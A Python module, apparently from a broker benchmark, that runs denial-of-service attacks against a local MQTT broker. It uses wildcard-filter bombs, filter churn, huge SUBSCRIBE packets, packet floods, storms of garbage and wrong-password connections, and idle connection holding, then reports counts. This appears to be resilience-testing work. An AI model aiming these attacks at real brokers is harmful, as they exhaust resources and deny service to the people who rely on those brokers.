"""Attacks by a few clients, each with valid credentials unless it guesses them.

A process of its own: it runs one of ATTACKS until a line on stdin ends it, and then says as JSON
what it did, and how often the broker closed its connections. An attacker that was closed comes back
after a second. With ``--announce`` it says ``began`` once it has done anything. ``idle`` is no
attack: it opens ``--count`` connections that do nothing, says that they are open, and keeps them.
"""

import argparse
import asyncio
import contextlib
import itertools
import json
import random
from collections import Counter
from collections.abc import Awaitable, Callable, Coroutine, Iterator
from dataclasses import dataclass, field
from typing import Any, Self

from bench.attacks.wellbehaved_clients import packets_in
from bench.brokers.mqtt_client import CONNACK, PUBACK, SUBACK, connect, packet, subscribe, text
from bench.processes.helper_process import run_as_attacker, stdin

PINGRESP, UNSUBACK = 13, 11
_PINGREQ = b"\xc0\x00"
_DISCONNECT = b"\xe0\x00"
_BOMB_LEVELS = 13
_BOMB_PUBLICATIONS = 3_000
"""In one write, at QoS 0."""
_CHURNED = 9_000
_LARGE = 100_000
_SMALL, _FILTERS = 20_000, 50
_CHUNK = 1_000
"""Topic filters in one SUBSCRIBE, for attacks that send several."""
_STRANGERS = 4_000
"""Connections of newcomers at a time, at most."""
_STRANGER_TIME = 10.0
"""Seconds after which a newcomer leaves."""
_NETWORKS = 400
"""Networks of newcomers that have many."""
_WINDOW = 500
"""Unacknowledged QoS 1 publications of a flooding client."""
_BACK = 1.0
"""Seconds from the end of a connection to the next one."""


@dataclass
class Target:
    """The address of the broker, and the counts of the attack."""

    port: int
    user: str | None
    password: str
    did: Counter[str] = field(default_factory=Counter)

    async def login(self, name: str, source: str) -> "Link":
        """Open a connection with valid credentials; raise EOFError if they are refused."""
        link = await Link.open(self.port, source)
        try:
            await link.send(connect(name, clean=True, user=self.user, password=self.password))
            code = (await link.expect(CONNACK))[1]
        except BaseException:
            link.close()
            raise
        if code:
            link.close()
            raise EOFError
        return link


class Link:
    """One connection; raises EOFError when the broker closes it."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._reader = reader
        self._writer = writer
        self._data = bytearray()
        self._packets: list[tuple[int, bytes]] = []

    @classmethod
    async def open(cls, port: int, source: str) -> Self:
        """Connect from an address of this machine."""
        return cls(*await asyncio.open_connection("127.0.0.1", port, local_addr=(source, 0)))

    async def send(self, data: bytes) -> None:
        """Send bytes; wait while the broker does not read."""
        self._writer.write(data)
        await self._writer.drain()

    async def receive(self) -> list[tuple[int, bytes]]:
        """Return the received packets: the first byte and the body of each."""
        while not self._packets:
            data = await self._reader.read(2**18)
            if not data:
                raise EOFError
            self._data += data
            self._packets = list(packets_in(self._data))
        found, self._packets = self._packets, []
        return found

    async def expect(self, kind: int) -> bytes:
        """Return the body of the next packet of a type; others are thrown away."""
        while True:
            for first, body in await self.receive():
                if first >> 4 == kind:
                    return body

    async def discard(self) -> None:
        """Read until the broker closes the connection."""
        while await self._reader.read(2**18):
            pass
        raise EOFError

    def close(self) -> None:
        """Close the connection at once."""
        self._writer.transport.abort()


@contextlib.asynccontextmanager
async def logged_in(target: Target, name: str, source: str = "127.0.2.1") -> Any:
    """Keep a connection open until the block ends."""
    link = await target.login(name, source)
    try:
        yield link
    finally:
        link.close()


async def persist(target: Target, name: str, attack: Callable[[], Awaitable[None]]) -> None:
    """Attack again some time after the broker closed the connection."""
    while True:
        try:
            await attack()
        except (OSError, EOFError):
            target.did[f"{name}: closed"] += 1
        await asyncio.sleep(_BACK)


def _chunks(filters: list[str]) -> Iterator[list[str]]:
    for first in range(0, len(filters), _CHUNK):
        yield filters[first : first + _CHUNK]


def unsubscribe(*topic_filters: str) -> bytes:
    """Return an UNSUBSCRIBE."""
    return packet(0xA2, b"\x00\x01" + b"".join(map(text, topic_filters)))


def publish_0(topic: str, payload: bytes = b"") -> bytes:
    """Return a PUBLISH at QoS 0."""
    return packet(0x30, text(topic) + payload)


def publish_2(topic: str, packet_id: int) -> bytes:
    """Return a PUBLISH at QoS 2."""
    return packet(0x34, text(topic) + packet_id.to_bytes(2, "big"))


def pubrel(packet_id: int) -> bytes:
    """Return a PUBREL."""
    return packet(0x62, packet_id.to_bytes(2, "big"))


# The attacks.


def filter_bombs(target: Target, sessions: int) -> list[Coroutine[Any, Any, None]]:
    """Sessions with 8,192 overlapping filters, and a client that publishes matching messages."""
    filters = ["/".join(levels) for levels in itertools.product("a+", repeat=_BOMB_LEVELS)]
    armed: set[int] = set()
    ready = asyncio.Event()

    async def subscribes(number: int) -> None:
        async with logged_in(target, f"bomb-{number}") as link:
            for chunk in _chunks(filters):
                await link.send(subscribe(*chunk, qos=0))
                codes = await link.expect(SUBACK)
                target.did["filters granted"] += sum(code != 0x80 for code in codes[2:])
                target.did["filters refused"] += codes[2:].count(0x80)
            armed.add(number)
            if len(armed) == sessions:
                ready.set()
            await link.discard()

    async def publishes() -> None:
        # Topics of 13 levels match half of the filters, those of more levels none.
        begins = ["a/" * (_BOMB_LEVELS - 1 + more) for more in range(3)]
        async with logged_in(target, "bomber") as link:
            await ready.wait()
            for burst in itertools.count():
                numbers = range(burst * _BOMB_PUBLICATIONS, (burst + 1) * _BOMB_PUBLICATIONS)
                topics = (f"{begins[number % len(begins)]}q{number}" for number in numbers)
                await link.send(b"".join(map(publish_0, topics)) + _PINGREQ)
                await link.expect(PINGRESP)
                target.did["bursts of 3,000"] += 1

    everybody = [
        persist(target, "subscriber", lambda number=number: subscribes(number))  # type: ignore[misc]
        for number in range(sessions)
    ]
    return [*everybody, persist(target, "publisher", publishes)]


def filter_churn(target: Target, _count: int) -> list[Coroutine[Any, Any, None]]:
    """One client that subscribes to 9,000 filters and unsubscribes from them, again and again."""
    filters = [f"churn/{number}/+" for number in range(_CHURNED)]

    async def churns() -> None:
        async with logged_in(target, "churn") as link:
            while True:
                await link.send(subscribe(*filters))
                await link.expect(SUBACK)
                await link.send(unsubscribe(*filters))
                await link.expect(UNSUBACK)
                target.did["rounds of 9,000"] += 1

    return [persist(target, "churn", churns)]


def large_subscribe(target: Target, _count: int) -> list[Coroutine[Any, Any, None]]:
    """One client that sends SUBSCRIBE packets of 100,000 filters."""
    whole = subscribe(*(f"large/{number}" for number in range(_LARGE)))

    async def subscribes() -> None:
        while True:
            async with logged_in(target, "large") as link:
                await link.send(whole)
                codes = await link.expect(SUBACK)
                target.did["packets of 100,000"] += 1
                target.did["filters refused"] += codes[2:].count(0x80)

    return [persist(target, "large", subscribes)]


def small_packets(target: Target, _count: int) -> list[Coroutine[Any, Any, None]]:
    """Clients that send small packets without a pause, alternating between types.

    One publishes at QoS 2 and releases each message at once, one subscribes to a filter and
    unsubscribes from it.
    """
    numbers = range(1, _SMALL + 1)
    releases = b"".join(publish_2("small", number) + pubrel(number) for number in numbers)
    names = [f"small/{number % _FILTERS}/+" for number in numbers]
    churn = b"".join(subscribe(name) + unsubscribe(name) for name in names)

    async def sends(name: str, burst: bytes) -> None:
        async with logged_in(target, name) as link:
            reading = asyncio.ensure_future(link.discard())
            try:
                while not reading.done():
                    await link.send(burst)
                    target.did[f"{name}: bursts of {_SMALL:,}"] += 1
            finally:
                reading.cancel()
                await asyncio.gather(reading, return_exceptions=True)

    return [
        persist(target, "releases", lambda: sends("releases", releases)),
        persist(target, "small churn", lambda: sends("small churn", churn)),
    ]


def newcomers(target: Target, rate: int, networks: int = 0) -> list[Coroutine[Any, Any, None]]:
    """Connections that come and go: a third garbage, a third flapping, a third wrong logins.

    Each third has addresses in one network, or all have addresses in ``networks`` of them.
    """
    chance = random.Random(1)
    running: set[asyncio.Task[None]] = set()

    async def comes(number: int) -> None:
        kind = ("garbage", "flapping", "wrong login")[number % 3]
        source = f"127.1.{number % 3 + 1}.{chance.randrange(250) + 1}"
        if networks:
            site = chance.randrange(networks)
            source = f"127.{site // 200 + 10}.{site % 200}.{chance.randrange(250) + 1}"
        who = f"{kind}-{number % 100}"
        if kind == "garbage":
            sent = chance.randbytes(chance.randrange(1, 4096))
        elif kind == "flapping":
            sent = connect(who, clean=True, user=target.user, password=target.password)
        else:
            sent = connect(who, clean=True, user=who, password=chance.randbytes(6).hex())
        link = None
        try:
            async with asyncio.timeout(_STRANGER_TIME):
                link = await Link.open(target.port, source)
                await link.send(sent)
                code = (await link.expect(CONNACK))[1]
                target.did[f"{kind}: {'refused' if code else 'let in'}"] += 1
                await link.send(_DISCONNECT)
        except TimeoutError:
            target.did[f"{kind}: no answer in 10 s"] += 1
        except (OSError, EOFError):
            target.did[f"{kind}: closed"] += 1
        finally:
            if link is not None:
                link.close()

    async def come() -> None:
        loop = asyncio.get_running_loop()
        begun, number = loop.time(), 0
        while True:
            due = int((loop.time() - begun) * rate)
            for each in range(number, due):
                if len(running) < _STRANGERS:
                    task = loop.create_task(comes(each))
                    running.add(task)
                    task.add_done_callback(running.discard)
            number = due
            await asyncio.sleep(0.01)

    return [come()]


def networks(target: Target, rate: int) -> list[Coroutine[Any, Any, None]]:
    """The same as ``newcomers``, with addresses in hundreds of networks."""
    return newcomers(target, rate, _NETWORKS)


def credentials(target: Target, _count: int) -> list[Coroutine[Any, Any, None]]:
    """Four clients: floods at QoS 0 and 1, a subscriber to everything, churn of filters."""
    payload = bytes(64)

    async def floods_0() -> None:
        several = b"".join(publish_0(f"flood/{number}", payload) for number in range(256))
        async with logged_in(target, "flood-0", "127.0.2.2") as link:
            while True:
                await link.send(several)
                target.did["QoS 0 sent"] += 256

    async def floods_1() -> None:
        async with logged_in(target, "flood-1", "127.0.2.3") as link:
            pid = 0
            left = _WINDOW
            while True:
                pids = [(pid + number) % 65_535 + 1 for number in range(left)]
                pid += left
                body = text("flood/1")
                await link.send(
                    b"".join(packet(0x32, body + at.to_bytes(2, "big") + payload) for at in pids)
                )
                left = sum(first >> 4 == PUBACK for first, _ in await link.receive())
                target.did["QoS 1 acknowledged"] += left

    async def takes_all() -> None:
        async with logged_in(target, "greedy", "127.0.2.4") as link:
            await link.send(subscribe("#"))
            await link.expect(SUBACK)
            while True:
                acks = bytearray()
                for first, body in await link.receive():
                    target.did["taken by #"] += 1
                    if first & 6:
                        at = 2 + int.from_bytes(body[:2], "big")
                        acks += packet(0x40, body[at : at + 2])
                await link.send(bytes(acks))

    attacks = {"QoS 0": floods_0, "QoS 1": floods_1, "#": takes_all}
    return [
        *(persist(target, name, attack) for name, attack in attacks.items()),
        *filter_churn(target, 0),
    ]


def idle(target: Target, count: int) -> list[Coroutine[Any, Any, None]]:
    """Clients that connect, subscribe and do nothing."""
    turns = asyncio.Semaphore(50)
    open_ = Counter[str]()

    async def stays(number: int) -> None:
        async with turns:
            link = await target.login(f"idle-{number}", f"127.0.3.{number % 20 + 1}")
            await link.send(subscribe(f"idle/{number}"))
            await link.expect(SUBACK)
        open_["now"] += 1
        if open_["now"] == count:
            print(json.dumps({"ready": count}), flush=True)
        await link.discard()

    async def once(number: int) -> None:
        with contextlib.suppress(OSError, EOFError):
            await stays(number)
        target.did["idle: closed"] += 1

    return [once(number) for number in range(count)]


ATTACKS: dict[str, Callable[[Target, int], list[Coroutine[Any, Any, None]]]] = {
    "filter-bombs": filter_bombs,
    "filter-churn": filter_churn,
    "large-subscribe": large_subscribe,
    "small-packets": small_packets,
    "newcomers": newcomers,
    "networks": networks,
    "credentials": credentials,
    "idle": idle,
}


async def _announce(target: Target) -> None:
    while not target.did:  # noqa: ASYNC110 - the attacks only count
        await asyncio.sleep(0.02)
    print("began", flush=True)


async def run(arguments: argparse.Namespace) -> None:
    """Attack until stdin ends."""
    loop = asyncio.get_running_loop()
    target = Target(arguments.port, arguments.user, arguments.password)
    work = [loop.create_task(each) for each in ATTACKS[arguments.attack](target, arguments.count)]
    saying = loop.create_task(_announce(target)) if arguments.announce else None
    await (await stdin()).readline()
    did = dict(target.did)
    if saying is not None:
        saying.cancel()
    for task in work:
        task.cancel()
    await asyncio.wait(work)
    failed = [error for task in work if not task.cancelled() and (error := task.exception())]
    if failed:
        raise failed[0]
    print(json.dumps(did), flush=True)


def main() -> None:
    """Run from the command line."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("port", type=int)
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("--count", type=int, default=1, help="sessions, or connections a second")
    parser.add_argument("--user")
    parser.add_argument("--password", default="")
    parser.add_argument("--announce", action="store_true", help="say when the attack has begun")
    arguments = parser.parse_args()
    run_as_attacker(run(arguments), 8192)


if __name__ == "__main__":
    main()
